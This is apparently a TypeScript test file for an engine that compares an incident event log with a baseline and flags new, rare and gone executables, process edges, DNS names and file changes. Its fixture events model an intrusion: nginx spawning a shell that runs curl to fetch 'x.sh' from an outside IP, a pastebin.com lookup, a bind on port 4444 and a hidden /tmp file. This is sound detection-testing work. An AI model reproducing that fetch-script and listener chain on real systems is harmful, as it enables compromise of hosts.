// The comparison of an open data set with a baseline, through the engine (the real ingest,
// index and forest): each kind's extraction on hand-built events with known answers — PID
// reuse, exec events without parents, drift events — and new / rare / gone, then on generated
// events against plain counts over the bodies.
import { describe, expect, it } from 'vitest';
import { generateEvents, routineDayBefore } from '../../scripts/generator';
import { DEFAULT_SORT, type CompareItem, type CompareResult } from '../protocol/messages';
import { Engine } from './engine';

type Body = Record<string, unknown>;

const T0 = Date.UTC(2026, 10, 20, 8, 0, 0);
const at = (s: number) => new Date(T0 + s * 1000).toISOString();

interface Proc {
  readonly pid: number;
  readonly exe: string;
  readonly args?: readonly string[];
  readonly user?: string;
  readonly execS?: number;
  readonly parent?: Proc;
}

function processJson(p: Proc, withParent = true): Body {
  const json: Body = {
    pid: p.pid,
    ppid: p.parent?.pid ?? 1,
    comm: p.exe.slice(p.exe.lastIndexOf('/') + 1),
    executable: { path: p.exe },
    fork_time: at(p.execS ?? 0),
    exec_time: at(p.execS ?? 0),
    args: p.args ?? [],
    user: p.user ?? 'root',
  };
  if (withParent && p.parent !== undefined) json['parent'] = processJson(p.parent, false);
  return json;
}

function event(name: string, s: number, p: Proc, extra: Body = {}, withParent = true): Body {
  return {
    date: at(s),
    evt: { name, category: name === 'exec' ? 'process' : 'file', outcome: 'Success' },
    process: processJson(p, withParent),
    agent: { rule_id: `${name}_rule` },
    title: '',
    ...extra,
  };
}

const exec = (s: number, p: Proc, withParent = true) => event('exec', s, p, {}, withParent);
const open = (s: number, p: Proc, path: string, flags: string[]) =>
  event('open', s, p, { file: { path, flags } });
const dns = (s: number, p: Proc, name: string) =>
  event('dns', s, p, {
    dns: { question: { name, type: 'A', class: 'CLASS_INET', size: 40, count: 1 } },
    network: { destination: { ip: '10.0.0.2', port: 53 } },
  });
const bind = (s: number, p: Proc, ip: string, port: number) =>
  event('bind', s, p, { bind: { addr: { family: 'AF_INET', ip, port } } });

function file(name: string, bodies: readonly Body[]) {
  const text = bodies.map((b) => JSON.stringify(b)).join('\n');
  return [{ file: new File([text], name), path: name }];
}

async function compare(incident: readonly Body[], baseline: readonly Body[]) {
  const engine = new Engine(() => undefined);
  await engine.open(file('incident.ndjson', incident));
  await engine.compareOpen(file('baseline.ndjson', baseline));
  return { engine, result: engine.compareRun() as CompareResult };
}

function find(result: CompareResult, kind: string, value: string): CompareItem | undefined {
  return result.items.find((i) => i.kind === kind && i.value === value);
}

const init: Proc = { pid: 1, exe: '/sbin/init' };
const nginx: Proc = { pid: 100, exe: '/usr/sbin/nginx', parent: init, user: 'www-data' };
const cron: Proc = { pid: 200, exe: '/usr/sbin/cron', parent: init };

/** A routine process that runs in both data sets. */
const routine = (s: number, pid: number): Proc => ({
  pid,
  exe: '/bin/sleep',
  args: [String(pid % 50)],
  parent: cron,
  execS: s,
});

describe('compare: hand-built data sets', () => {
  const baseline = [
    exec(1, routine(1, 300)),
    exec(2, routine(2, 301)),
    dns(3, cron, 'ntp.ubuntu.com'),
    exec(4, { pid: 400, exe: '/usr/bin/apt', parent: cron, execS: 4 }),
    open(5, cron, '/var/log/cron.log', ['O_WRONLY', 'O_APPEND']),
    open(6, cron, '/etc/passwd', ['O_RDONLY']),
  ];
  const shell: Proc = { pid: 500, exe: '/bin/sh', args: ['-c', 'id'], parent: nginx, execS: 20 };
  const curl: Proc = {
    pid: 501,
    exe: '/usr/bin/curl',
    args: ['-s', 'http://203.0.113.50/x.sh'],
    parent: shell,
    user: 'www-data',
    execS: 21,
  };
  const incident = [
    exec(10, routine(10, 310)),
    exec(20, shell),
    exec(21, curl),
    exec(22, curl),
    dns(23, curl, 'pastebin.com'),
    dns(24, cron, 'ntp.ubuntu.com'),
    bind(25, shell, '0.0.0.0', 4444),
    bind(25, shell, '0.0.0.0', 45_459),
    open(26, curl, '/tmp/.x', ['O_CREAT', 'O_WRONLY']),
    open(27, cron, '/etc/passwd', ['O_RDONLY']),
    { ...exec(28, routine(28, 311)), unknown_section: { x: 1 } },
  ];

  it('lists what the baseline never had as new, with counts and times', async () => {
    const { result } = await compare(incident, baseline);
    const curlItem = find(result, 'executable', '/usr/bin/curl');
    // Its two execs, its DNS request and its open.
    expect(curlItem).toMatchObject({ status: 'new', incident: 4, baseline: 0 });
    expect(curlItem?.firstMs).toBe(T0 + 21_000);
    expect(curlItem?.lastMs).toBe(T0 + 26_000);
    expect(find(result, 'exec-edge', '/bin/sh -> /usr/bin/curl')).toMatchObject({
      status: 'new',
      incident: 2,
    });
    expect(find(result, 'exec-edge', '/usr/sbin/nginx -> /bin/sh')?.status).toBe('new');
    expect(find(result, 'dns', 'pastebin.com')?.status).toBe('new');
    expect(find(result, 'destination', 'bound 0.0.0.0:4444')?.status).toBe('new');
    expect(find(result, 'destination', 'bound 0.0.0.0:<ephemeral>')?.query).toBe(
      '@bind.addr.ip:0.0.0.0 @bind.addr.port:>=32768',
    );
    expect(find(result, 'file-change', '/tmp/.x')?.status).toBe('new');
    expect(find(result, 'user', 'www-data -> /usr/bin/curl')?.status).toBe('new');
    expect(find(result, 'cmdline', '/usr/bin/curl -s http://203.0.113.50/x.sh')?.status).toBe(
      'new',
    );
    expect(find(result, 'rule', 'bind_rule')?.status).toBe('new');
    expect(find(result, 'exec-edge', '/bin/sh -> /usr/bin/curl')?.query).toBe(
      '@evt.name:exec @process.parent.executable.path:/bin/sh @process.executable.path:/usr/bin/curl',
    );
  });

  it('leaves out what is as frequent in both, and reads-only opens', async () => {
    const { result } = await compare(incident, baseline);
    expect(find(result, 'executable', '/bin/sleep')).toBeUndefined();
    expect(find(result, 'cmdline', '/bin/sleep <n>')).toBeUndefined();
    expect(find(result, 'exec-edge', '/usr/sbin/cron -> /bin/sleep')).toBeUndefined();
    expect(result.items.some((i) => i.value === '/etc/passwd')).toBe(false);
  });

  it('lists what only the baseline had as gone', async () => {
    const { result } = await compare(incident, baseline);
    expect(find(result, 'executable', '/usr/bin/apt')).toMatchObject({
      status: 'gone',
      incident: 0,
      baseline: 1,
    });
    expect(find(result, 'file-change', '/var/log/cron.log')?.status).toBe('gone');
    const statuses = result.items.map((i) => i.status);
    expect(statuses).toEqual([...statuses].sort((a, b) => order(a) - order(b)));
  });

  it('finds a value rare from its frequency per event loaded', async () => {
    const id = (s: number): Proc => ({ pid: 900 + s, exe: '/usr/bin/id', parent: cron, execS: s });
    const reads = Array.from({ length: 30 }, (_, i) => open(100 + i, cron, '/etc/hosts', []));
    // Baseline: 1 of 37 events; incident: 10 of 21, so about 17.6 times as frequent.
    const { result } = await compare(
      [...incident, ...Array.from({ length: 10 }, (_, i) => exec(30 + i, id(30 + i)))],
      [...baseline, exec(7, id(7)), ...reads],
    );
    const item = find(result, 'executable', '/usr/bin/id');
    expect(item).toMatchObject({ status: 'rare', incident: 10, baseline: 1 });
    expect(item?.factor).toBeCloseTo(10 / 21 / (1 / 37), 5);
  });

  it('takes the parent from the process forest when the exec event names none', async () => {
    // PID 600 is used twice on one host: the exec events say nothing of their parents, a later
    // event of each process does. The edges must not cross.
    const a: Proc = { pid: 600, exe: '/opt/a', parent: nginx, execS: 40 };
    const b: Proc = { pid: 600, exe: '/opt/b', parent: cron, execS: 50 };
    const orphan: Proc = { pid: 700, exe: '/opt/orphan', execS: 60 };
    const events = [
      exec(40, a, false),
      open(41, a, '/tmp/a', ['O_RDONLY']),
      exec(50, b, false),
      open(51, b, '/tmp/b', ['O_RDONLY']),
      exec(60, orphan, false),
    ];
    const { result } = await compare(events, baseline);
    const edges = result.items.filter((i) => i.kind === 'exec-edge').map((i) => i.value);
    expect(edges).toContain('/usr/sbin/nginx -> /opt/a');
    expect(edges).toContain('/usr/sbin/cron -> /opt/b');
    expect(edges.some((e) => e.endsWith('/opt/orphan'))).toBe(false);
    expect(find(result, 'executable', '/opt/orphan')?.status).toBe('new');
  });

  it('exports every item as CSV and JSON', async () => {
    const { engine, result } = await compare(incident, baseline);
    const csv = engine.compareExport('csv').split('\r\n');
    expect(csv[0]).toBe(
      'kind,value,status,incident_count,baseline_count,factor,first_seen,last_seen,query',
    );
    expect(csv.filter((l) => l !== '')).toHaveLength(result.items.length + 1);
    const json = JSON.parse(engine.compareExport('json')) as { items: { value: string }[] };
    expect(json.items.map((i) => i.value)).toEqual(result.items.map((i) => i.value));
  });
});

function order(status: string): number {
  return ['new', 'rare', 'gone'].indexOf(status);
}

describe('compare: the generated incident against a routine day', () => {
  const options = { seed: 5, count: 3000, agents: 'mixed' as const };
  // Every tenth event carries a section no schema knows: a drift event, counted like any other.
  const incident = [...generateEvents(options)].map((e, i) =>
    i % 10 === 0 ? { ...e, body: { ...e.body, future_section: { x: 1 } } } : e,
  );
  const baseline = [...generateEvents(routineDayBefore(options))];
  const bodies = (list: typeof incident) => list.map((e) => e.body as unknown as Body);

  it('counts executables and DNS names as the bodies give them, drift events too', async () => {
    const { engine, result } = await compare(bodies(incident), bodies(baseline));
    expect(engine.progress().counts.drift).toBe(incident.length / 10);
    const count = (list: typeof incident, pick: (b: Body) => unknown) => {
      const counts = new Map<string, number>();
      for (const e of list) {
        const v = pick(e.body as unknown as Body);
        if (typeof v === 'string') counts.set(v, (counts.get(v) ?? 0) + 1);
      }
      return counts;
    };
    const exe = (b: Body) => (b['process'] as Body | undefined)?.['executable'] as Body | undefined;
    const incExe = count(incident, (b) => exe(b)?.['path']);
    const baseExe = count(baseline, (b) => exe(b)?.['path']);
    for (const item of result.items.filter((i) => i.kind === 'executable')) {
      expect(item.incident).toBe(incExe.get(item.value) ?? 0);
      expect(item.baseline).toBe(baseExe.get(item.value) ?? 0);
    }
    const name = (b: Body) => ((b['dns'] as Body | undefined)?.['question'] as Body)?.['name'];
    const incDns = count(incident, name);
    const baseDns = count(baseline, name);
    for (const item of result.items.filter((i) => i.kind === 'dns')) {
      expect(item.incident).toBe(incDns.get(item.value) ?? 0);
      expect(item.baseline).toBe(baseDns.get(item.value) ?? 0);
    }
    const newDns = [...incDns.keys()].filter((n) => !baseDns.has(n)).sort();
    const listed = result.items.filter((i) => i.kind === 'dns' && i.status === 'new');
    expect(listed.map((i) => i.value).sort()).toEqual(newDns);
  });

  it('narrows to each listed value’s events with its query', async () => {
    const { engine, result } = await compare(bodies(incident), bodies(baseline));
    const listed = result.items.filter((i) => i.status !== 'gone');
    expect(listed.length).toBeGreaterThan(20);
    for (const item of listed) {
      const summary = await engine.viewSet({
        query: item.query,
        range: undefined,
        sort: DEFAULT_SORT,
        fields: [],
      });
      expect(summary.errors, item.query).toEqual([]);
      // A command line's query asks for each argument's shape, in any order: it may find more.
      if (item.kind === 'cmdline')
        expect(summary.matching, item.query).toBeGreaterThanOrEqual(item.incident);
      else expect(summary.matching, item.query).toBe(item.incident);
    }
  });

  it('finds the intrusion new and the routine not', async () => {
    const { result } = await compare(bodies(incident), bodies(baseline));
    const newValues = new Set(result.items.filter((i) => i.status === 'new').map((i) => i.value));
    expect(newValues.has('pastebin.com')).toBe(true);
    expect(newValues.has('/usr/sbin/nginx -> /bin/dash')).toBe(true);
    expect(newValues.has('/tmp/.x')).toBe(true);
    const story = incident.filter((e) => e.story !== undefined);
    expect(story.length).toBeGreaterThan(0);
    const routineExes = new Set(
      baseline.map(
        (e) => (e.body.process as { executable?: { path?: string } } | undefined)?.executable?.path,
      ),
    );
    for (const item of result.items.filter((i) => i.kind === 'executable' && i.status === 'new')) {
      expect(routineExes.has(item.value)).toBe(false);
    }
  });
});
